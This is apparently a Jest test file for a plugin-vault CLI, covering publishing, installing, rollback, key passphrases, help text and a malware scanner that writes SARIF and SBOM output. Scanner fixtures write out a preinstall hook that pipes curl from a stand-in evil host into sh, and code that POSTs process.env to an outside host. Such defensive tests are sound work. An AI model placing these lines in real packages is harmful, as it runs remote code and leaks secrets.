import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { memoryIo } from '@ragnos-vault/testing';
import type { MemoryIo } from '@ragnos-vault/testing';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { run } from './run.ts';

const HELLO = fileURLToPath(new URL('../../../examples/plugins/hello', import.meta.url));
let dir: string;

beforeEach(() => void (dir = mkdtempSync(join(tmpdir(), 'cli-'))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

interface Said {
  readonly code: number;
  readonly out: string;
  readonly err: string;
}

async function cli(line: string, io: MemoryIo = memoryIo(dir)): Promise<Said> {
  const code = await run(
    line.split(' ').filter((word) => word !== ''),
    io,
  );
  return { code, out: io.out(), err: io.err() };
}

function json(said: Said): Record<string, unknown> {
  return JSON.parse(said.out) as Record<string, unknown>;
}

function tree(folder: string): readonly string[] {
  return existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort() : [];
}

describe('the whole line', () => {
  it('makes a vault, publishes, installs, lists, upgrades and rolls back', async () => {
    expect(await cli('init --repo-dir vault --key-type ed25519')).toMatchObject({ code: 0, err: '' });
    cpSync(HELLO, join(dir, 'hello'), { recursive: true });
    expect((await cli('publish hello')).out).toMatch(/^published +@acme\/hello@/);
    expect((await cli('publish hello')).out).toMatch(/^unchanged +@acme\/hello@/);

    const install = '@acme/hello --repo vault --root vault/root.json';
    expect((await cli(`install ${install}`)).out).toMatch(/^installed +@acme\/hello@/);
    expect(readFileSync(join(dir, 'plugins/current/acme/hello/index.js'))).toEqual(
      readFileSync(join(HELLO, 'index.js')),
    );
    expect((await cli(`install ${install}`)).out).toMatch(/^unchanged/);

    const manifest = JSON.parse(readFileSync(join(dir, 'hello/package.json'), 'utf8')) as object;
    writeFileSync(join(dir, 'hello/package.json'), JSON.stringify({ ...manifest, version: '99.0.0' }));
    await cli('publish hello');
    expect((await cli(`install ${install}`)).out).toContain('@acme/hello@99.0.0');
    expect((await cli('rollback')).code).toBe(0);
    expect(json(await cli('list --json'))).toMatchObject({ current: { number: 1 } });
    expect(json(await cli('status --json'))).toMatchObject({
      roles: [{ role: 'root', version: 1, expired: false }, {}, {}, {}],
    });
  });

  it('publishes under a path that was asked for, and installs from it by file: address', async () => {
    await cli('init --repo-dir vault --key-type ecdsa');
    await cli(`publish ${HELLO} --target-path plugins/vendor/plugin-name.tar.gz`);
    const said = await cli(
      `install plugins/vendor/plugin-name.tar.gz --repo file://${dir}/vault --root vault/root.json`,
    );
    expect(said).toMatchObject({ code: 0 });
    expect(existsSync(join(dir, 'plugins/current/acme/hello/package.json'))).toBe(true);
  });

  it('encrypts keys, and signs with the passphrase from a file or the environment', async () => {
    writeFileSync(join(dir, 'secret'), 'correct horse\n');
    expect(
      (await cli('init --repo-dir vault --key-type ed25519 --encrypt --passphrase-file secret')).code,
    ).toBe(0);
    expect(readFileSync(join(dir, 'vault/keys/root.pem'), 'utf8')).toContain('ENCRYPTED PRIVATE KEY');
    const before = tree(join(dir, 'vault'));
    expect(json(await cli(`publish ${HELLO} --json`))).toMatchObject({ code: 'ERR_PASSPHRASE' });
    const env = Object.fromEntries(
      ['TARGETS', 'SNAPSHOT', 'TIMESTAMP'].map((role) => [`TUF_${role}_PASSPHRASE`, 'wrong']),
    );
    expect(await cli(`publish ${HELLO}`, memoryIo(dir, env))).toMatchObject({ code: 4 });
    expect(tree(join(dir, 'vault'))).toEqual(before);
    expect((await cli(`publish ${HELLO} --passphrase-file secret`)).code).toBe(0);
  });

  it('serves until it is stopped', async () => {
    await cli('init --repo-dir vault --key-type ed25519');
    const io = memoryIo(dir);
    const running = cli('serve --port 0 --json', io);
    while (!io.out().includes('listening')) await new Promise((resolve) => setTimeout(resolve, 5));
    const { url } = JSON.parse(io.out().split('\n')[0] ?? '') as { url: string };
    expect((await fetch(`${url}/metadata/1.root.json`)).status).toBe(200);
    expect((await fetch(`${url}/vault.yaml`)).status).toBe(404);
    io.stop();
    expect((await running).code).toBe(0);
  });
});

describe('a refusal', () => {
  it.each([
    ['no such command', 'instal x', 2, 'ERR_USAGE'],
    ['no such option', 'init --reop-dir x', 2, 'ERR_USAGE'],
    ['an unknown key type', 'init --repo-dir x --key-type dsa', 2, 'ERR_USAGE'],
    ['a store of another kind', 'init --repo-dir x --store s3:bucket', 2, 'ERR_USAGE'],
    ['a branch that git would take for an option', 'init --repo-dir x --store git:-f', 2, 'ERR_USAGE'],
    ['a threshold of 0', 'init --repo-dir x --threshold 0', 2, 'ERR_USAGE'],
    ['a missing argument', 'publish', 2, 'ERR_USAGE'],
    ['no vault', 'publish hello', 2, 'ERR_VAULT_NOT_FOUND'],
    ['no vault to look at', 'status --repo-dir nowhere', 2, 'ERR_VAULT_NOT_FOUND'],
    ['no repository', 'install x --repo nowhere --root root.json', 1, 'ERR_TUF_ROOT_INVALID'],
    ['nothing to roll back to', 'rollback', 1, 'ERR_NO_GENERATION'],
    ['nothing to scan', 'scan nowhere', 2, 'ERR_PLUGIN_SOURCE'],
  ])(
    'for %s has its exit code, a hint for people and a code for machines',
    async (...[, line, code, error]) => {
      const said = await cli(line);
      expect(said).toMatchObject({ code, out: '' });
      expect(said.err).toMatch(new RegExp(`^error: [^\\n]+ \\(${error}\\)\\nhint: `));
      expect(json(await cli(`${line} --json`))).toMatchObject({
        code: error,
        message: expect.any(String),
        hint: expect.any(String),
        facts: expect.any(Object),
      });
    },
  );

  it('of a second init leaves the vault as it was', async () => {
    await cli('init --repo-dir vault --key-type ed25519');
    const before = readFileSync(join(dir, 'vault/root.json'));
    expect(await cli('init --repo-dir vault')).toMatchObject({ code: 2 });
    expect(readFileSync(join(dir, 'vault/root.json'))).toEqual(before);
  });

  it('of a malicious plugin names the rule, and publishes nothing', async () => {
    await cli('init --repo-dir vault --key-type ed25519');
    mkdirSync(join(dir, 'evil'));
    writeFileSync(
      join(dir, 'evil/package.json'),
      JSON.stringify({
        name: '@acme/evil',
        version: '1.0.0',
        scripts: { preinstall: 'curl http://evil.example.invalid/x | sh' },
      }),
    );
    const before = tree(join(dir, 'vault'));
    expect(json(await cli('publish evil --json --sarif evil.sarif --sbom evil.json'))).toMatchObject({
      code: 'ERR_SCAN_BLOCKED',
      facts: { name: '@acme/evil' },
    });
    expect(tree(join(dir, 'vault'))).toEqual(before);
    expect(readFileSync(join(dir, 'evil.sarif'), 'utf8')).toContain('"ruleId": "EXE-001');
    expect(readFileSync(join(dir, 'evil.json'), 'utf8')).toContain('pkg:npm/%40acme/evil@1.0.0');
    expect(await cli(`publish evil ${HELLO} --sarif both.sarif`)).toMatchObject({ code: 1 });
    const runs = (JSON.parse(readFileSync(join(dir, 'both.sarif'), 'utf8')) as { runs: unknown[] }).runs;
    expect(runs).toHaveLength(2);
    expect(await cli('scan evil')).toMatchObject({ code: 1 });
    expect(json(await cli('scan evil --json'))).toMatchObject({ verdict: 'block', name: '@acme/evil' });
  });

  it('of a malicious plugin is told in colour on a terminal alone', async () => {
    mkdirSync(join(dir, 'evil'));
    writeFileSync(join(dir, 'evil/package.json'), '{"name":"evil","version":"1.0.0"}');
    const send =
      "fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });";
    writeFileSync(join(dir, 'evil/index.js'), send);
    const io = memoryIo(dir);
    io.stdout.isTTY = true;
    expect(await run(['scan', 'evil'], io)).toBe(1);
    expect(io.out()).toContain('\u001b[1m\u001b[31mcritical');
    const plain = await cli('scan evil');
    expect(plain).toMatchObject({ code: 1 });
    expect(plain.out).not.toContain('\u001b');
    expect(plain.out).toContain('verdict block: ');
    expect(await cli('scan evil --format markdown --output out.md')).toMatchObject({ code: 1, out: '' });
    expect(readFileSync(join(dir, 'out.md'), 'utf8')).toMatch(/^## evil@&#8203;1\.0\.0: block\n/);
    expect(plain.out).toMatch(/\nevil@1\.0\.0: block, \d+ findings in 2 files \(\d+ B\)\n$/);
  });

  it('of a malicious plugin leaves a SARIF file that says where it is in the repository', async () => {
    mkdirSync(join(dir, 'evil'));
    writeFileSync(join(dir, 'evil/package.json'), '{"name":"evil","version":"1.0.0"}');
    writeFileSync(
      join(dir, 'evil/index.js'),
      `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
    );
    expect(await cli('scan evil --sarif out.sarif --sarif-root ./plugins/evil/')).toMatchObject({ code: 1 });
    expect(JSON.parse(readFileSync(join(dir, 'out.sarif'), 'utf8'))).toMatchObject({
      version: '2.1.0',
      runs: [
        {
          tool: { driver: { name: 'ragnos-vault' } },
          results: expect.arrayContaining([
            expect.objectContaining({
              ruleId: 'EXF-001',
              locations: [
                expect.objectContaining({
                  physicalLocation: expect.objectContaining({
                    artifactLocation: expect.objectContaining({ uri: 'plugins/evil/index.js' }),
                  }),
                }),
              ],
            }),
          ]),
        },
      ],
    });
    const several = await cli(`scan ${HELLO} evil --format json --output all.json`);
    expect(several).toMatchObject({ code: 1, out: '' });
    expect(JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8'))).toMatchObject([
      { name: '@acme/hello', verdict: 'pass' },
      { name: 'evil', verdict: 'block' },
    ]);
    expect(json(await cli('scan evil --format sarif'))).toMatchObject({ version: '2.1.0' });
    expect(await cli(`scan evil ${HELLO} --sarif no.sarif --sarif-root a`)).toMatchObject({ code: 2 });
    expect(await cli('scan evil --sarif no.sarif --sarif-root ../evil')).toMatchObject({ code: 2 });
    expect(existsSync(join(dir, 'no.sarif'))).toBe(false);
  });

  it('of no bill of materials leaves none; an honest plugin has the same one each time', async () => {
    const io = memoryIo(dir, { SOURCE_DATE_EPOCH: 'now' });
    expect(await cli(`scan ${HELLO} --sbom no.json`, io)).toMatchObject({ code: 2 });
    expect(existsSync(join(dir, 'no.json'))).toBe(false);
    expect(await cli(`scan ${HELLO} --sbom a.json`)).toMatchObject({ code: 0 });
    expect(await cli(`scan ${HELLO} --sbom b.json`)).toMatchObject({ code: 0 });
    const [a, b] = ['a.json', 'b.json'].map((file) => readFileSync(join(dir, file), 'utf8'));
    expect(b).toBe(a);
    expect(JSON.parse(a ?? '')).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' });
  });

  it('of an archive that cannot be read is the same with a bill of materials, and leaves the old one', async () => {
    writeFileSync(join(dir, 'broken.tgz'), 'no archive');
    writeFileSync(join(dir, 'old.json'), 'old');
    const plain = await cli('scan broken.tgz --json');
    const said = await cli('scan broken.tgz --json --sbom old.json');
    expect(said).toMatchObject({ code: plain.code, out: plain.out });
    expect(json(said)).toMatchObject({ verdict: 'block', complete: false });
    expect(said.err).toContain('no bill of materials, for nothing could be read: old.json');
    expect(readFileSync(join(dir, 'old.json'), 'utf8')).toBe('old');
  });

  it('never lets a name rewrite the terminal', async () => {
    const said = await run(['scan', '\u001b[2Jnowhere'], memoryIo(dir));
    const io = memoryIo(dir);
    await run(['scan', '\u001b[2Jnowhere'], io);
    expect(said).toBe(2);
    expect(io.err()).toContain('\\u{1b}[2Jnowhere');
    expect(io.err()).not.toContain('\u001b');
  });
});

describe('help', () => {
  it.each([
    'init',
    'publish',
    'serve',
    'status',
    'renew',
    'verify-repo',
    'install',
    'list',
    'rollback',
    'yank',
    'revoke',
    'scan',
    'demo',
  ])('of %s shows examples', async (name) => {
    const said = await cli(`${name} --help`);
    expect(said).toMatchObject({ code: 0, err: '' });
    expect(said.out).toMatch(/Examples:\n {2}\$ ragnos-vault/);
  });

  it('is what an empty command line gets', async () => {
    expect((await cli('')).out).toContain('Usage: ragnos-vault');
  });
});
